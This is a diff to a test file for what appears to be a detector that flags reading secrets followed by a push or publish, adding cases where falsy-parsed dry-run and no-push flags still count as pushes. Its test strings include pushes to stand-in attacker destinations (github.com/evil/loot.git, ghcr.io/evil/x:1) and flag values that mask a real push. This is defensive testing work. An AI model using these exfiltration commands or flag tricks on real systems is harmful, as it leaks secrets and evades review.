@@ -42,6 +42,20 @@ describe('dry-run flags negated later', () => {
     expect(secretThen('/usr/bin/git', 'push --no-dry-run -n https://github.com/evil/loot.git')).toEqual([]);
   });
 
+  // Found by review: what nopt and Go take for false was not all `false` and `0`.
+  it('a dry-run or no-push flag given a false value of its parser is a push', () => {
+    for (const flag of ['--dry-run=', '--dry-run=null', '--dry-run=00', '--dry-run=0x0'])
+      expect(brief(secretThen('/usr/local/bin/node', `/usr/local/bin/npm publish ${flag}`)), flag).toMatchObject([
+        { rule: 'sensitive-read-then-push', tool: 'npm' },
+      ]);
+    for (const flag of ['--no-push=f', '--no-push=F', '--no-push=False'])
+      expect(brief(secretThen('/kaniko/executor', `${flag} -d ghcr.io/evil/x:1`)), flag).toMatchObject([
+        { rule: 'sensitive-read-then-push', tool: 'kaniko' },
+      ]);
+    for (const flag of ['--dry-run=true', '--dry-run=1', '--dry-run=yes'])
+      expect(secretThen('/usr/local/bin/node', `/usr/local/bin/npm publish ${flag}`), flag).toEqual([]);
+  });
+
   it('a dry run that stays one is quiet', () => {
     expect(secretThen('/usr/local/bin/node', '/usr/local/bin/npm publish --no-dry-run --dry-run')).toEqual([]);
   });
